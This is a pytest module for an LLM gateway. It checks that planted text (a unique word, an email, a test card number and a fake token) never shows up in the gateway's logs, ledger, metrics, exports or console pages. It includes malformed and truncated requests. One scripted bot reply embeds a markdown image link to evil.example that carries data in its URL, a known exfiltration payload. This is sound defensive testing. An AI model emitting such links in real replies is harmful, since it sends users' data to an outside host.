"""Promise 5: own logs hold no user text.

The rule of this test: a word that occurs nowhere else is planted in every text field of every protocol, in replies and
errors of the bot, in headers, queries, paths and bodies that cannot be parsed, together with an address, a card number
and a secret. Then everything that the gateway left behind is searched for them: ledger, key, logs down to DEBUG in
Python's development mode, temporary files, metrics, console pages and answers of the admin API.

Model names and tool names are identifiers, which dialects pass unread; they are planted too, and are not logged either.
"""

from __future__ import annotations

import base64
import json
import socket
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import httpx
import pytest
from msgspec.structs import replace

from chatward.console.access_pages import NAVIGATION
from chatward.identity.operators import Operators
from chatward.identity.passwords import Passwords
from chatward.ledger.reading import tail
from chatward.monitoring.alerts import Alerts
from chatward.monitoring.cursors import Cursors, opened
from chatward.monitoring.running import made
from chatward.monitoring.standing import ALERTS
from chatward.settings import LedgerSettings, Route, Server, Settings
from chatward.settings.monitoring import AlertTarget, Siem
from chatward.stores.database import Database
from tests.simulators.gateway import DOWN, GUARDS, RunningGateway
from tests.simulators.receivers import HttpReceiver, SyslogReceiver
from tests.simulators.scenes import Call, Scene
from tests.simulators.upstream import ScriptedUpstream

pytestmark = pytest.mark.xdist_group("own-logs")

WORD: Final = "Zyxomorph"
CARD: Final = "5555 5555 5555 4444"
SECRET: Final = "ghp_" + "9aK2mB7xQ4vL8nR3tW6yZ1cD5fG0hJ2sP4uE"
KEY: Final = "key-for-the-own-logs-test"
FORMATS: Final = ("cef", "ocsf", "json")
MAX_BODY: Final = 64 * 1024

_numbers = count(1)


def planted() -> str:
    """A text to be found again, unlike any other."""
    number = next(_numbers)
    return f"{WORD}{number} {WORD}{number}@leaky.example {CARD} {SECRET}"


def name() -> str:
    """The same for a place that takes no blank."""
    return f"{WORD}{next(_numbers)}"


SCENES: Final = {
    "echo": Scene(text="You wrote: {said}"),
    "say": Scene(
        text=f"{planted()} and ![{planted()}](https://evil.example/?d={name()})",
        reasoning=planted(),
        calls=(Call("call_1", name(), json.dumps({"note": planted()})), Call(name(), "x", json.dumps([planted()]))),
    ),
    "refuse": Scene(refusal=planted(), choices=(planted(),)),
    "canary": Scene(text=f"So {name()} says CANARY-{WORD}-00 now."),
    "fails": Scene(
        status=500, body=json.dumps({"error": {"message": planted(), "type": name(), "code": name()}}).encode()
    ),
    "limits": Scene(status=429, body=json.dumps({"error": planted()}).encode()),
    "page": Scene(status=503, body=f"<h1>{planted()}</h1>".encode(), content_type="text/html"),
    "prose": Scene(body=planted().encode(), content_type=f"text/{name()}"),
    "garbled": Scene(body=f'{{"choices": [{{"{planted()}'.encode()),
    "wrong": Scene(body=json.dumps({"choices": planted(), "output": planted(), "content": planted()}).encode()),
    "odd": Scene(body=json.dumps([planted()]).encode()),
    "cut": Scene(text=planted(), cut=9),
    "events": Scene(
        body=f"event: {name()}\ndata: {planted()}\n\n: {planted()}\n\n".encode(), content_type="text/event-stream"
    ),
}


def _tools(protocol: str) -> list[dict[str, Any]]:
    schema = {
        "type": "object",
        "title": planted(),
        "properties": {name(): {"type": "string", "description": planted(), "enum": [planted()]}},
    }
    named = {"name": name(), "description": planted()}
    if protocol == "messages":
        return [{**named, "input_schema": schema}]
    if protocol == "responses":
        return [{"type": "function", **named, "parameters": schema, "strict": False}]
    return [{"type": "function", "function": {**named, "parameters": schema}}]


def _chat(model: str, stream: bool) -> dict[str, Any]:
    called = {"id": name(), "type": "function", "function": {"name": name(), "arguments": f'{{"a": "{planted()}"}}'}}
    content = [
        {"type": "text", "text": planted()},
        {"type": "image_url", "image_url": {"url": f"https://{name()}.example/{name()}.png", "detail": "low"}},
        {
            "type": "image_url",
            "image_url": {"url": f"data:image/png;base64,{base64.b64encode(planted().encode()).decode()}"},
        },
        {"type": "file", "file": {"filename": f"{planted()}.pdf", "file_data": planted()}},
        {"type": name(), name(): planted()},
    ]
    return {
        "model": model,
        "stream": stream,
        "messages": [
            {"role": "system", "content": planted(), "name": name()},
            {"role": "user", "content": planted(), "name": planted()},
            {"role": "assistant", "content": planted(), "refusal": planted(), "tool_calls": [called]},
            {"role": "tool", "tool_call_id": called["id"], "content": planted()},
            {"role": "user", "content": content},
        ],
        "tools": _tools("chat"),
        "user": planted(),
        "metadata": {"conversation_id": name(), name(): planted()},
        "stop": [planted()],
        "response_format": {"type": "json_schema", "json_schema": {"name": name(), "schema": {"title": planted()}}},
        "prompt_cache_key": planted(),
        "service_tier": name(),
        name(): planted(),
    }


def _responses(model: str, stream: bool) -> dict[str, Any]:
    content = [
        {"type": "input_text", "text": planted()},
        {"type": "input_image", "image_url": f"https://{name()}.example/{name()}.png"},
        {"type": "input_file", "filename": planted(), "file_data": planted()},
    ]
    called = name()
    return {
        "model": model,
        "stream": stream,
        "instructions": planted(),
        "input": [
            {"role": "developer", "content": planted()},
            {"type": "function_call", "call_id": called, "name": name(), "arguments": json.dumps({"a": planted()})},
            {"type": "function_call_output", "call_id": called, "output": planted()},
            {"type": "reasoning", "id": name(), "summary": [{"type": "summary_text", "text": planted()}]},
            {"type": name(), "text": planted()},
            {"role": "user", "content": content},
        ],
        "tools": _tools("responses"),
        "user": planted(),
        "metadata": {name(): planted()},
        "previous_response_id": name(),
        "safety_identifier": planted(),
        name(): {"deep": [planted()]},
    }


def _messages(model: str, stream: bool) -> dict[str, Any]:
    content = [
        {"type": "text", "text": planted()},
        {"type": "image", "source": {"type": "url", "url": f"https://{name()}.example/{name()}.png"}},
        {
            "type": "document",
            "title": planted(),
            "context": planted(),
            "source": {"type": "text", "media_type": "text/plain", "data": planted()},
        },
        {"type": "tool_result", "tool_use_id": name(), "content": [{"type": "text", "text": planted()}]},
    ]
    return {
        "model": model,
        "stream": stream,
        "max_tokens": 9,
        "system": [{"type": "text", "text": planted()}],
        "messages": [
            {"role": "user", "content": planted()},
            {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": planted(), "signature": name()},
                    {"type": "text", "text": planted()},
                    {"type": "tool_use", "id": name(), "name": name(), "input": {name(): planted()}},
                ],
            },
            {"role": "user", "content": content},
        ],
        "tools": _tools("messages"),
        "metadata": {"user_id": planted()},
        "stop_sequences": [planted()],
        name(): planted(),
    }


def _embeddings(model: str, stream: bool) -> dict[str, Any]:
    return {"model": model, "input": [planted(), planted()], "user": planted()}


BODIES: Final = {
    "/v1/chat/completions": _chat,
    "/v1/responses": _responses,
    "/v1/messages": _messages,
    "/v1/embeddings": _embeddings,
}


def _headers() -> dict[str, str]:
    """What a caller may send besides; some of it goes on to the bot."""
    return {
        "authorization": f"Bearer {KEY}",
        "user-agent": f"{name()}/1.0 ({planted()})",
        "x-request-id": name(),
        "traceparent": name(),
        "idempotency-key": name(),
        "openai-organization": name(),
        "anthropic-version": name(),
        "anthropic-beta": name(),
        "cookie": f"{name()}={name()}",
        "referer": f"https://{name()}.example/{name()}",
        f"x-{name().lower()}": planted(),
    }


def _bad_bodies() -> Iterator[bytes]:
    """Bodies that cannot be served, with the word in all of them."""
    said = planted()
    yield f'{{"model": "{said}'.encode()
    yield f'{{"{said}": 1, "{said}": 2}}'.encode()
    yield b'{"model": "\xff\xfe' + said.encode() + b'"}'
    yield f'{{"model": "m", "messages": "{said}", "input": {{"{said}": 1}}}}'.encode()
    yield json.dumps({"model": "enforce~echo", "messages": [{"role": said, "content": said}]}).encode()
    yield json.dumps({"model": {said: said}, "messages": [{"role": "user", "content": said}]}).encode()
    yield json.dumps({"model": "enforce~echo", "messages": [{"role": "user", "content": [{"type": said}]}]}).encode()
    yield json.dumps({"model": "enforce~echo", "tools": said, "input": [said], "messages": [said]}).encode()
    yield f'{{"model": "enforce~echo", "{said}": NaN}}'.encode()
    yield f'{{"model": "enforce~echo", "messages": [{{"role": "user", "content": "\\ud800{said}"}}]}}'.encode()
    yield b"[" * 500 + json.dumps(said).encode() + b"]" * 500
    yield json.dumps(said).encode()
    yield json.dumps({"model": "enforce~echo", "messages": [{"role": "user", "content": said * 2000}]}).encode()


def _talk(gateway: RunningGateway, bot: ScriptedUpstream) -> set[int]:
    """Sends everything; returns the statuses that came back."""
    statuses = set()
    routes = ["enforce", "monitor", "none", *(f"{kind}-{part}" for kind in ("down", "open") for part in DOWN)]
    with httpx.Client(timeout=30) as client:

        def post(url: str, **request: Any) -> None:
            statuses.add(client.post(url, **request).status_code)

        for path, body in BODIES.items():
            url = gateway.url + path
            for stream in (False, True):
                for route in routes:
                    post(url, json=body(f"{route}~echo~events~{name()}", stream), headers=_headers())
                for scene in SCENES:
                    plain = {"role": "user", "content": planted()}
                    key = "messages" if path.endswith(("completions", "messages")) else "input"
                    asked = {"model": f"enforce~{scene}~hostile~{name()}", "stream": stream, "max_tokens": 9}
                    told = [plain] if key == "messages" else plain["content"]
                    post(url, json={**asked, key: told}, headers=_headers())
            for bad in _bad_bodies():
                post(url, content=bad, headers={**_headers(), "content-type": "application/json"})
            post(url, content=planted(), headers={**_headers(), "content-type": f"text/{name()}"})
            post(f"{url}?{name()}={name()}&limit={name()}", json=body("enforce~echo", False), headers=_headers())
            post(url, json=body("enforce~echo", False), headers={"authorization": f"Bearer {planted()}"})
            post(f"{url}/{name()}", json=body("enforce~echo", False), headers=_headers())
            for method in (name().upper(), "PUT"):  # one that nobody knows, and one that is not allowed
                statuses.add(client.request(method, url, headers=_headers()).status_code)
        for path in (f"/{name()}", f"/v1/models/{name()}", f"/chat/{name()}?q={name()}", f"/%00{name()}"):
            statuses.add(client.get(gateway.url + path, headers=_headers()).status_code)
        admin = gateway.admin_url
        secret = {"authorization": f"Bearer {KEY}"}
        post(f"{admin}/api/v1/inspect", json={"text": planted(), "role": "user"}, headers=secret)
        post(f"{admin}/api/v1/inspect", json={"text": [planted()], name(): planted()}, headers=secret)
        post(f"{admin}/api/v1/inspect", content=planted(), headers=secret)
        guardrail = {"texts": [planted()], "request_data": {"user": planted()}, "input_type": "request"}
        post(f"{admin}/beta/litellm_basic_guardrail_api", json=guardrail, headers=secret)
        statuses.add(client.get(f"{admin}/{name()}?q={name()}", headers=_headers()).status_code)
    _raw(gateway.url)
    assert any(bot.seen(model) for model in bot.models if WORD in model)
    return statuses


def _raw(url: str) -> None:
    """Bytes that are not HTTP, and a body that ends early."""
    where = (urlsplit(url).hostname, urlsplit(url).port)
    head = (
        f"POST /v1/responses HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {KEY}\r\ncontent-type: application/json\r\n"
    )
    for sent in (
        f"{planted()}\r\n\r\n",
        f"GET /{name()} HTTP/1.1\r\n{planted()}\r\n\r\n",
        f'{head}content-length: 900\r\n\r\n{{"input": "{planted()}',
        f'{head}transfer-encoding: chunked\r\n\r\n10\r\n{{"input": "{name()}',
    ):
        with socket.create_connection(where, timeout=5) as connection:
            connection.sendall(sent.encode())


def _signed_in(gateway: RunningGateway) -> httpx.Client:
    """The console as an admin sees it."""
    password = "a rather long pass phrase"
    operators = Operators(Database(gateway.folder / "chatward-identity.db"), Passwords(), lambda entry: None)
    operators.create("olga", password, ["admin"])
    client = httpx.Client(base_url=gateway.admin_url, headers={"origin": gateway.admin_url}, timeout=30)
    assert client.post("/api/v1/session", json={"name": "olga", "password": password}).status_code == 200
    return client


def _published(gateway: RunningGateway) -> dict[str, bytes]:
    """What the admin plane and the data plane show to operators, by address."""
    shown: dict[str, bytes] = {}
    with httpx.Client(headers={"authorization": f"Bearer {KEY}"}, timeout=30) as client:
        paths = client.get(f"{gateway.admin_url}/api/v1/openapi.json").json()["paths"]
        listed = {path for path, methods in paths.items() if "get" in methods and "{" not in path}
        for path in {"/", "/metrics", *listed}:
            answer = client.get(gateway.admin_url + path)
            # A key has no session of its own, and may look at less than an operator who signed in.
            assert answer.status_code in {200, 401, 403}, path
            shown[path] = answer.content
        operator = _signed_in(gateway)
        for path in {"/account", "/start", "/search", *(page for page, *_ in NAVIGATION), *listed}:
            answer = operator.get(path)
            assert answer.status_code == 200, path
            shown[f"operator {path}"] = answer.content
        for path in ("/chat", "/healthz", "/readyz"):
            shown[f"gateway {path}"] = client.get(gateway.url + path).content
    return shown


@pytest.fixture(scope="module")
def left_behind(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Everything that remains after all was said, by name."""
    folder = tmp_path_factory.mktemp("own-logs")
    (folder / "tmp").mkdir()
    routes = {
        "enforce": Route(models=("enforce~*",), guards=GUARDS, canaries=("env:OWN_LOGS_CANARY",)),
        "monitor": Route(models=("monitor~*",), guards=GUARDS, mode="monitor"),
        "none": Route(models=("none~*",), guards=("none",)),
    }
    for part in DOWN:
        names = (*GUARDS, f"test.down-{part}")
        routes[f"down-{part}"] = Route(models=(f"down-{part}~*",), guards=names)
        routes[f"open-{part}"] = Route(models=(f"open-{part}~*",), guards=names, on_unavailable="allow")
    with ScriptedUpstream(SCENES) as bot:
        settings = Settings(
            upstream=bot.url,
            server=Server(port=0, admin_port=0, keys=("env:OWN_LOGS_KEY",), max_body=MAX_BODY, body_timeout=2.0),
            routes=routes,
            ledger=LedgerSettings(path="ledger.db", durability="process"),
        )
        environment = {
            "OWN_LOGS_CANARY": f"CANARY-{WORD}-00",
            "OWN_LOGS_KEY": KEY,
            "TMPDIR": str(folder / "tmp"),
        }
        gateway = RunningGateway(settings, folder, environment, debug=True)
        try:
            statuses = _talk(gateway, bot)
            shown = _published(gateway)
            live = _files(folder)  # before the end, while the ledger's log of writes is there
            events = {record.event for record in gateway.records()}
        finally:
            status = gateway.stop()
    _export(folder, settings)
    assert status == 0
    assert {200, 400, 401, 404, 405, 413, 415, 500, 502} <= statuses, statuses
    assert {"request:call:refused", "message:input:judged", "upstream:call:failed", "reply:output:aborted"} <= events
    assert any(name.endswith("-wal") for name in live)
    return {**{f"live {name}": data for name, data in live.items()}, **_files(folder), **shown}


def _export(folder: Path, settings: Settings) -> None:
    """The whole record as every receiver gets it, and what people are alerted of, as files."""
    receiver, alerted = SyslogReceiver(), HttpReceiver()
    siem = (
        *(Siem(name=form, kind="file", address=str(folder / f"siem.{form}"), format=form) for form in FORMATS),
        Siem(name="syslog", kind="syslog", address=f"tcp://127.0.0.1:{receiver.port}", format="rfc5424"),
        Siem(name="otlp", kind="otlp", address=alerted.url, attributes=("action", "principal", "rules")),
    )
    told = AlertTarget(address=alerted.url, secret="x", level="informational", gather=0.001)
    ledger = replace(settings.ledger, path=str(folder / settings.ledger.path))
    database = opened(folder / "monitoring.db")
    cursors, alerts = Cursors(database), Alerts(database, 600.0)
    settings = replace(settings, siem=siem, alerts=(told,), ledger=ledger)
    running = made(settings, database, lambda reference: f"whsec_{base64.b64encode(bytes(32)).decode()}")
    cursors.move(ALERTS, 0, b"", 1.0)  # a new watching begins with what comes; this one with the first entry
    for one in running:
        while one.step() == 0.0:  # type: ignore[attr-defined]
            pass
    assert {cursors.get(one.name).seq for one in siem} == {len(tail(ledger.path, 1_000_000))}
    assert len(alerts.newest(99)) > 5
    (folder / "siem.syslog").write_bytes(b"\n".join(receiver.messages))
    (folder / "alerts.json").write_bytes(b"\n".join(alerted.bodies))
    assert any(b"llm01_" in body for body in alerted.bodies)
    assert any(b"resourceSpans" in body for body in alerted.bodies)
    database.close()
    receiver.close()
    alerted.close()


def _files(folder: Path) -> dict[str, bytes]:
    return {str(file.relative_to(folder)): file.read_bytes() for file in folder.rglob("*") if file.is_file()}


TRACES: Final = {
    "word": [WORD],
    "address": ["leaky.example"],
    "card": [CARD, CARD.replace(" ", ""), CARD[-9:]],
    "secret": [SECRET, SECRET[4:]],
    "key": [KEY],
}


@pytest.mark.parametrize("kind", TRACES)
def test_nothing_of_what_was_said_is_left(left_behind: dict[str, bytes], kind: str) -> None:
    for name, data in left_behind.items():
        low = data.lower()
        for trace in TRACES[kind]:
            raw = trace.lower().encode()
            for form in (raw, raw.hex().encode()):
                at = low.find(form)
                assert at < 0, f"{name} holds the {kind}: {data[max(at - 200, 0) : at + 200]!r}"


@pytest.mark.parametrize("kind", sorted(TRACES.keys() - {"key"}))
def test_the_search_would_find_it(kind: str) -> None:
    assert any(trace.lower() in planted().lower() for trace in TRACES[kind])


def test_the_logs_say_something(left_behind: dict[str, bytes]) -> None:
    """So that the test above looks at logs that are written at all."""
    log = left_behind["gateway.log"]
    assert b"DEBUG:root:" in log
    assert log.count(b"level=info id=cw-") > 100
    assert b"level=warning id=cw-" in log
    assert len(left_behind["ledger.db"]) > 10_000
    assert b"chatward_" in left_behind["/metrics"]
